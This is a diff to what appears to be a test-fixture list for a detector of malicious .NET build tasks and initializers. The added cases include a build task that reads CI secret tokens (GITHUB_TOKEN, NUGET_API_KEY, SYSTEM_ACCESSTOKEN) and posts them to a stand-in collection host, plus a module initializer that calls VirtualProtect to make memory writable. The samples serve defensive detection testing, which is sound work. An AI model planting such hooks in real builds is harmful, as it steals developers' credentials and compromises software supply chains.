@@ -130,6 +130,24 @@ public class Embed : IIncrementalGenerator
             new HttpClient().PostAsync("https://collect.fixture.invalid/a", new StringContent(keys));`),
     },
     {
+      name: 'task-takes-tokens',
+      about: 'A task that reads three tokens of a build server and posts.',
+      files: task(`var all = "";
+            foreach (var name in new[] { "SYSTEM_ACCESSTOKEN", "NUGET_API_KEY", "GITHUB_TOKEN" })
+                all += Environment.GetEnvironmentVariable(name);
+            new HttpClient().PostAsync("https://collect.fixture.invalid/a", new StringContent(all));`),
+    },
+    {
+      name: 'initializer-patches',
+      about: 'A module initializer that makes memory writable in which code lies.',
+      files: library(`${initializer('Native.VirtualProtect(IntPtr.Zero, UIntPtr.Zero, 64, out _);')}
+internal static class Native
+{
+    [System.Runtime.InteropServices.DllImport("kernel32.dll")]
+    internal static extern bool VirtualProtect(IntPtr at, UIntPtr size, uint mode, out uint before);
+}`),
+    },
+    {
       name: 'task-updates-itself',
       about: 'A task that fetches its program and starts it: held, since builders do so too.',
       files:
@@ -216,6 +234,13 @@ public static class Client
 {
     public static Task<string> Ask() => new HttpClient().GetStringAsync("https://api.fixture.invalid/");
 }`),
+    },
+    {
+      name: 'task-asks-its-forge',
+      about: 'A task that reads one token and asks the server it belongs to.',
+      nearMiss: true,
+      files: task(`var token = Environment.GetEnvironmentVariable("GITHUB_TOKEN");
+            new HttpClient().GetStringAsync("https://forge.fixture.invalid/releases?" + token);`),
     },
     {
       name: 'task-starts-compiler',
